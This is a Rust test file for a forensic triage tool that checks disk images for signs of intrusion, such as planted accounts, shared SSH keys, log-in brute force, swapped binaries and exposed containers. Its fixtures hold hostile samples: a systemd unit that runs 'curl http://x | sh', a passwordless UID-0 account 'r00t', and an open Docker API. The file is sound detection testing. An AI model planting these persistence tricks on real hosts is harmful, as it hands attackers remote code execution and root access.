//! `triage` on disks on which somebody has hidden something, or has made it hard to look.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test that cannot go on failed")]

use std::fs;
use std::io::Write as _;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::Command;

use kannuki_audit::collect::traces::{self, Search};
use kannuki_audit::texts::{Lang, Texts};
use kannuki_audit::traces::Traces;
use kannuki_audit::triage::{self, Checked, Grade, Outcome, Triage, show};
use kannuki_audit::vulnerabilities::Table;

/// 2018-02-27 12:00:00 UTC.
const NOW: i64 = 1_519_732_800;

fn write(root: &Path, path: &str, text: impl AsRef<[u8]>) {
    let path = root.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

fn look_at(root: &Path, at: i64) -> (Traces, Triage) {
    let search =
        Search { root: root.to_owned(), by: "test".to_owned(), incident: None, at: Some(at) };
    let traces = traces::collect(&search, &mut |_| ()).unwrap();
    let texts = Texts::of(Lang::En);
    let triage = triage::judge(&traces, None, None, &Table::embedded(), &texts);
    (traces, triage)
}

fn look(root: &Path) -> (Traces, Triage) {
    look_at(root, NOW)
}

fn check<'t>(triage: &'t Triage, id: &str) -> &'t Checked {
    triage.checks.iter().find(|check| check.id == id).unwrap()
}

fn has(triage: &Triage, id: &str, sign: &str) -> bool {
    check(triage, id).signs.iter().any(|known| known.text == sign)
}

fn disk() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), "etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
    write(folder.path(), "etc/shadow", "root:$6$salt$verysecrethash:17000:0:99999:7:::\n");
    folder
}

fn gz(text: &[u8]) -> Vec<u8> {
    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    packed.write_all(text).unwrap();
    packed.finish().unwrap()
}

#[test]
fn rotated_logs_are_unpacked_bombs_are_bounded_and_other_packings_are_said() {
    let disk = disk();
    let root = disk.path();
    let line =
        "Feb 26 03:11:04 web1 sshd[7]: Accepted password for root from 192.0.2.7 port 4 ssh2\n";
    write(root, "var/log/auth.log.2.gz", gz(line.as_bytes()));
    write(root, "var/log/auth.log.3.gz", gz(&vec![0; 64 << 20]));
    write(root, "var/log/auth.log.4.gz", b"\x1f\x8b\x08 no gzip at all");
    write(root, "var/log/auth.log.5.xz", "packed");
    let (traces, triage) = look(root);
    let from: Vec<&str> = traces.logins.list().iter().map(|login| login.from.as_str()).collect();
    assert_eq!(from, ["192.0.2.7"]);
    let logins = check(&triage, "TR-15");
    for path in ["auth.log.4.gz", "auth.log.5.xz"] {
        assert!(logins.unseen.iter().any(|what| what.contains(path)), "{path}: {logins:?}");
    }
    assert_ne!(triage.outcome, Outcome::Reflector);
}

/// Fifty thousand addresses and ten thousand log-ins once took minutes to compare.
#[test]
fn a_log_of_many_addresses_and_log_ins_is_read_in_linear_time() {
    let disk = disk();
    let mut log = String::new();
    for n in 0..30_000 {
        let (a, b) = (n / 250, n % 250);
        log +=
            &format!("Feb 27 03:11:04 w sshd[7]: Failed password for x from 10.{a}.0.{b} port 4\n");
    }
    for n in 0..12_000 {
        let (a, b) = (n / 250, n % 250);
        log += &format!(
            "Feb 27 04:11:04 w sshd[7]: Accepted publickey for x from 10.{a}.1.{b} port 4\n"
        );
    }
    write(disk.path(), "var/log/auth.log", log);
    let (traces, _) = look(disk.path());
    assert_eq!(traces.logins.list().len(), 10_000);
    assert_eq!(traces.failures.len(), 200);
}

#[test]
fn one_refusal_in_three_places_counts_once_and_mistypers_guess_nothing() {
    let disk = disk();
    let mut log = String::new();
    // Two a day for a fortnight: somebody mistypes.
    for day in 10..24 {
        log += &format!(
            "Feb {day} 03:11:04 w sshd[7]: Failed password for ops from 192.0.2.7 port 4\n"
        );
        log += &format!(
            "Feb {day} 09:11:04 w sshd[7]: Failed password for ops from 192.0.2.7 port 4\n"
        );
    }
    log += "Feb 24 04:00:00 w sshd[7]: Accepted password for ops from 192.0.2.7 port 4 ssh2\n";
    write(disk.path(), "var/log/auth.log", log);
    let mut records = Vec::new();
    for _ in 0..28 {
        let mut record = vec![0; 384];
        record[0] = 6;
        record[76..85].copy_from_slice(b"192.0.2.7");
        record[340..344].copy_from_slice(&1_519_000_000u32.to_le_bytes());
        records.extend(record);
    }
    write(disk.path(), "var/log/btmp", records);
    let (traces, triage) = look(disk.path());
    assert_eq!(traces.failures[0].count, 28);
    assert_eq!(check(&triage, "TR-15").grade, Grade::Strong, "28 refusals within an hour in btmp");
    fs::remove_file(disk.path().join("var/log/btmp")).unwrap();
    let (traces, triage) = look(disk.path());
    assert_eq!((traces.failures[0].count, traces.failures[0].burst), (28, 1));
    assert_eq!(check(&triage, "TR-15").grade, Grade::Suspicious);
}

#[test]
fn clocks_of_1970_and_of_the_far_future_claim_no_impossible_time() {
    let disk = disk();
    let line = "Feb 27 03:11:04 w sshd[7]: Accepted password for ops from 192.0.2.7 port 4 ssh2\n";
    write(disk.path(), "var/log/auth.log", line);
    let (_, past) = look_at(disk.path(), 60);
    assert!(has(&past, "TR-01", "sign.clock"), "{:?}", check(&past, "TR-01"));
    let far = 4_000_000_000;
    let (traces, _) = look_at(disk.path(), far);
    assert!(traces.logins.list().iter().all(|login| login.at.is_none_or(|at| at <= far)));
    // A log that claims to have been written in 1970 still has the years of the clock.
    let log = fs::File::options().write(true).open(disk.path().join("var/log/auth.log")).unwrap();
    log.set_modified(std::time::UNIX_EPOCH).unwrap();
    let (traces, _) = look(disk.path());
    assert_eq!(traces.logins.list()[0].at, Some(1_519_701_064));
}

#[test]
fn links_to_the_passwords_and_keys_put_no_secret_into_any_page() {
    let disk = disk();
    let root = disk.path();
    let key =
        "-----BEGIN OPENSSH PRIVATE KEY-----\nc2VjcmV0a2V5\n-----END OPENSSH PRIVATE KEY-----\n";
    write(root, "root/.ssh/id_ed25519", key);
    fs::create_dir_all(root.join("etc/cron.d")).unwrap();
    fs::create_dir_all(root.join("var/log")).unwrap();
    symlink("/etc/shadow", root.join("etc/cron.d/job")).unwrap();
    symlink("/etc/cron.d/job", root.join("etc/rc.local")).unwrap();
    symlink("/root/.ssh/id_ed25519", root.join("etc/crontab")).unwrap();
    fs::hard_link(root.join("etc/shadow"), root.join("var/log/auth.log.1")).unwrap();
    fs::hard_link(root.join("root/.ssh/id_ed25519"), root.join("etc/memcached.conf")).unwrap();
    write(root, "etc/systemd/system/app.service", "[Service]\nEnvironment=DB_PASSWORD=hunter2\n");
    let (traces, triage) = look(root);
    let mut tar = Vec::new();
    let search =
        Search { root: root.to_owned(), by: "test".to_owned(), incident: None, at: Some(NOW) };
    let json = show::json(&triage).unwrap();
    traces::bundle(&search, &traces, &json, &mut tar).unwrap();
    let mut pages = vec![tar, json.into_bytes()];
    for lang in Lang::ALL {
        pages.push(show::text(&triage, &Texts::of(lang), 80).into_bytes());
        pages.push(show::markdown(&triage, &Texts::of(lang)).into_bytes());
    }
    for secret in ["verysecrethash", "c2VjcmV0a2V5", "hunter2"] {
        for page in &pages {
            let found = page.windows(secret.len()).any(|window| window == secret.as_bytes());
            assert!(!found, "{secret}");
        }
    }
}

/// `tar` and `sha256sum` are everywhere; the bundle is for people who have nothing else.
#[test]
fn a_bundle_unpacks_in_order_of_volatility_and_its_sums_are_right() {
    let disk = disk();
    write(disk.path(), "var/log/auth.log", "x\n");
    let (traces, triage) = look(disk.path());
    let search = Search {
        root: disk.path().to_owned(),
        by: "test".to_owned(),
        incident: None,
        at: Some(NOW),
    };
    let mut tar = Vec::new();
    let json = show::json(&triage).unwrap();
    let bundle = traces::bundle(&search, &traces, &json, &mut tar).unwrap();
    let out = tempfile::tempdir().unwrap();
    fs::write(out.path().join("b.tar"), tar).unwrap();
    let script = "set -e; cd \"$1\"; tar -xf b.tar; cd case-*; sha256sum -c MANIFEST.sha256 >&2; \
                  sha256sum MANIFEST.sha256; stat -c %a ./*; cat manifest.jsonl";
    let done = Command::new("sh").args(["-c", script, "sh"]).arg(out.path()).output().unwrap();
    let text = String::from_utf8(done.stdout).unwrap();
    assert!(done.status.success(), "{text}{}", String::from_utf8_lossy(&done.stderr));
    assert!(text.starts_with(&bundle.manifest_sha256), "{text}");
    let modes = text.lines().filter(|line| line.len() == 3);
    assert!(modes.clone().count() > 4 && modes.clone().all(|mode| mode == "600"), "{text}");
    let (log, settings) = (text.find("/var/log/auth.log"), text.find("\"/etc/passwd\""));
    assert!(log < settings && log.is_some(), "logs before settings: {text}");
}

#[test]
fn what_is_there_and_cannot_be_read_is_never_clean() {
    let disk = disk();
    let root = disk.path();
    let mut padded = vec![b'\n'; 2 << 20];
    padded.extend(b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 x@parrot\n");
    write(root, "root/.ssh/authorized_keys", padded);
    fs::create_dir_all(root.join("var/spool/cron/crontabs/root")).unwrap();
    write(root, "etc/cron.d/big", vec![b'#'; 50 << 20]);
    let pipe = root.join("etc/ld.so.preload");
    let kind = rustix::fs::FileType::Fifo;
    rustix::fs::mknodat(rustix::fs::CWD, pipe, kind, 0o644.into(), 0).unwrap();
    let (_, triage) = look(root);
    assert_eq!(check(&triage, "TR-20").grade, Grade::NotRun);
    assert_eq!(check(&triage, "TR-10").grade, Grade::NotRun);
    // Of a long table the beginning is read, and what stands behind it may be anything.
    assert_eq!(check(&triage, "TR-23").grade, Grade::NotRun);
    assert_eq!(triage.outcome, Outcome::CannotTell);
}

#[test]
fn gaps_beyond_the_bound_are_counted_and_stop_every_claim() {
    use std::os::unix::ffi::OsStrExt as _;
    let disk = disk();
    let folder = disk.path().join("etc/cron.d");
    fs::create_dir_all(&folder).unwrap();
    for n in 0..1100u32 {
        let name = [b"\xff".as_slice(), n.to_string().as_bytes()].concat();
        fs::write(folder.join(std::ffi::OsStr::from_bytes(&name)), "").unwrap();
    }
    let (traces, triage) = look(disk.path());
    assert!(traces.gaps.iter().any(|gap| gap.what == "(more)"));
    assert!(triage.reasons.iter().any(|reason| reason.text == "triage.reason-gaps"));
}

/// One more name than is read once left no gap: the folder and its parent were counted too.
#[test]
fn a_folder_with_more_names_than_are_read_is_said() {
    let disk = disk();
    let folder = disk.path().join("tmp/many");
    fs::create_dir_all(&folder).unwrap();
    for n in 0..=65_536 {
        let kind = rustix::fs::FileType::RegularFile;
        let path = folder.join(n.to_string());
        rustix::fs::mknodat(rustix::fs::CWD, path, kind, 0o600.into(), 0).unwrap();
    }
    let (_, triage) = look(disk.path());
    assert_eq!(check(&triage, "TR-29").grade, Grade::NotRun, "{:?}", check(&triage, "TR-29"));
}

#[test]
fn names_that_are_no_text_among_temporary_files_are_told() {
    use std::os::unix::ffi::OsStrExt as _;
    let disk = disk();
    fs::create_dir_all(disk.path().join("tmp")).unwrap();
    fs::write(disk.path().join("tmp").join(std::ffi::OsStr::from_bytes(b"\xff\x1b[31m")), "")
        .unwrap();
    let (_, triage) = look(disk.path());
    assert!(has(&triage, "TR-29", "sign.hidden-name"), "{:?}", check(&triage, "TR-29"));
    let page = show::text(&triage, &Texts::of(Lang::En), 80);
    assert!(!page.contains('\u{1b}'), "{page:?}");
}

#[test]
fn variants_of_planted_accounts_and_keys_are_found() {
    let disk = disk();
    let root = disk.path();
    let passwd = "root:x:0:0:root:/root:/bin/bash\nr00t::0:0\n y: x:0:0::/:/bin/sh\n\
                  ops::1000:1000::/home/ops:/bin/bash\nwww:x:33:33::/var/www:/bin/sh\n";
    write(root, "etc/passwd", passwd);
    let shadow = "root:*:17000::::::\nops:$6$salt$verysecrethash:17000::::::\n\
                  www:$6$salt$verysecrethash:17500::::::\n";
    write(root, "etc/shadow", shadow);
    write(root, "etc/group", "sudo:x:27:www,ops\nusers:x:100:ops\n");
    write(root, "etc/ssh/sshd_config", "AuthorizedKeysFile=/etc/keys/%u\nInclude /opt/x.conf\n");
    write(root, "etc/keys/www", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA x@parrot\n");
    write(root, "root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA x@parrot\n");
    let (traces, triage) = look(root);
    let names: Vec<&str> = traces.accounts.list().iter().map(|a| a.name.as_str()).collect();
    assert_eq!(names, ["root", "r00t", "y", "ops", "www"]);
    for sign in ["sign.second-root", "sign.no-password", "sign.system-account", "sign.member"] {
        assert!(has(&triage, "TR-19", sign), "{sign}: {:?}", check(&triage, "TR-19"));
    }
    assert!(has(&triage, "TR-20", "sign.key-shared"), "{:?}", check(&triage, "TR-20"));
    assert!(has(&triage, "TR-21", "sign.sshd-include"));
}

#[test]
fn people_of_old_systems_are_no_accounts_of_the_system() {
    let disk = disk();
    write(disk.path(), "etc/login.defs", "# x\nUID_MIN\t\t 500\n");
    write(disk.path(), "etc/passwd", "ops:x:500:500::/home/ops:/bin/bash\n");
    write(disk.path(), "etc/shadow", "ops:$1$salt$verysecrethash:15000::::::\n");
    let (_, triage) = look(disk.path());
    assert!(!has(&triage, "TR-19", "sign.system-account"), "{:?}", check(&triage, "TR-19"));
}

#[test]
fn units_that_are_linked_from_elsewhere_are_read() {
    let disk = disk();
    let root = disk.path();
    fs::create_dir_all(root.join("etc/systemd/system/multi-user.target.wants")).unwrap();
    write(root, "opt/.x/evil.service", "[Service]\nExecStart=/bin/sh -c 'curl http://x | sh'\n");
    symlink("/opt/.x/evil.service", root.join("etc/systemd/system/evil.service")).unwrap();
    symlink("/dev/null", root.join("etc/systemd/system/masked.service")).unwrap();
    symlink("/lib/systemd/system/x.service", root.join("etc/systemd/system/alias.service"))
        .unwrap();
    let (_, triage) = look(root);
    assert!(has(&triage, "TR-24", "sign.downloader"), "{:?}", check(&triage, "TR-24"));
    assert!(check(&triage, "TR-24").unseen.is_empty(), "{:?}", check(&triage, "TR-24"));
}

#[test]
fn an_everyday_host_has_no_suspicious_sign() {
    let disk = disk();
    let root = disk.path();
    write(root, "etc/crontab", "30 3 * * * root rsync -a -e ssh /srv/ backup:/srv/\n");
    write(root, "etc/cron.d/ping", "0 * * * * root curl -fsS https://example.org/x || logger no\n");
    write(root, "var/spool/cron/crontabs/root", "0 4 * * * mysqldump db > /tmp/db.sql\n");
    write(root, "root/.bash_history", "wget https://example.org/a.tar.gz\ntar xf a.tar.gz\n");
    write(root, "etc/rc.local", "#!/bin/sh\n[ -x /tmp/x ] || exit 0\nexit 0\n");
    let (_, triage) = look(root);
    for check in &triage.checks {
        assert!(check.signs.iter().all(|sign| sign.grade < Grade::Suspicious), "{check:?}");
    }
}

#[test]
fn programs_that_another_package_moved_aside_are_compared_where_they_are() {
    let disk = disk();
    let root = disk.path();
    // md5 of "hello\n"
    let sums =
        "b1946ac92492d2347c6235b4d2611184  bin/ls\nb1946ac92492d2347c6235b4d2611184  bin/cp\n";
    write(root, "var/lib/dpkg/info/coreutils.md5sums", sums);
    write(root, "var/lib/dpkg/info/coreutils.list", "/bin/ls\n/bin/cp\n");
    write(root, "bin/ls", "another package's\n");
    write(root, "bin/ls.moved", "hello\n");
    write(root, "bin/cp", "hello\n");
    assert!(has(&look(root).1, "TR-27", "sign.program-differs"));
    write(root, "var/lib/dpkg/diversions", "/bin/ls\n/bin/ls.moved\nbetter-ls\n");
    let (traces, triage) = look(root);
    assert!(check(&triage, "TR-27").signs.is_empty(), "{:?}", check(&triage, "TR-27"));
    assert_eq!(traces.verification.known().unwrap().compared, 2);
    // Its own package moved nothing aside.
    write(root, "var/lib/dpkg/diversions", "/bin/ls\n/bin/ls.moved\ncoreutils\n");
    assert!(has(&look(root).1, "TR-27", "sign.program-differs"));
}

#[test]
fn the_surroundings_are_looked_at() {
    let disk = disk();
    let root = disk.path();
    let mut log = String::new();
    let post = |minute: u32, status: u16| {
        format!(
            "192.0.2.9 - - [27/Feb/2018:03:{minute:02}:00 +0000] \"POST /wp-login.php HTTP/1.1\" \
             {status} 5 \"-\" \"x\"\n"
        )
    };
    (0..25).for_each(|minute| log += &post(minute, 200));
    log += &post(30, 302);
    log += "192.0.2.8 - - [27/Feb/2018:03:00:00 +0000] \"GET /.env HTTP/1.1\" 200 5 \"-\" \
            \"\u{1b}\"\n";
    write(root, "var/log/nginx/access.log", log);
    for n in 0..150 {
        write(root, &format!("var/spool/postfix/deferred/A/{n}"), "");
    }
    let config = r#"{"Privileged": true, "Binds": ["/:/host"]}"#;
    write(root, "var/lib/docker/containers/ab/hostconfig.json", config);
    write(root, "etc/docker/daemon.json", r#"{"hosts": ["tcp://0.0.0.0:2375"]}"#);
    write(root, "etc/selinux/config", "SELINUX=disabled\n");
    write(root, "etc/os-release", "ID=centos\nVERSION_ID=6\nPRETTY_NAME=\"CentOS 6\"\n");
    let (_, triage) = look_at(root, 1_700_000_000);
    for (id, sign) in [
        ("TR-31", "sign.web-guessed"),
        ("TR-31", "sign.web-leak"),
        ("TR-34", "sign.selinux-off"),
        ("TR-35", "sign.mails"),
        ("TR-36", "sign.container"),
        ("TR-36", "sign.engine-open"),
        ("TR-39", "sign.unsupported"),
    ] {
        assert!(has(&triage, id, sign), "{id} {sign}: {:?}", check(&triage, id));
    }
    assert!(triage.not_made.is_empty());
    write(root, "etc/docker/daemon.json", "{ no json \u{1b}");
    let (_, triage) = look(root);
    assert!(!check(&triage, "TR-36").unseen.is_empty());
}
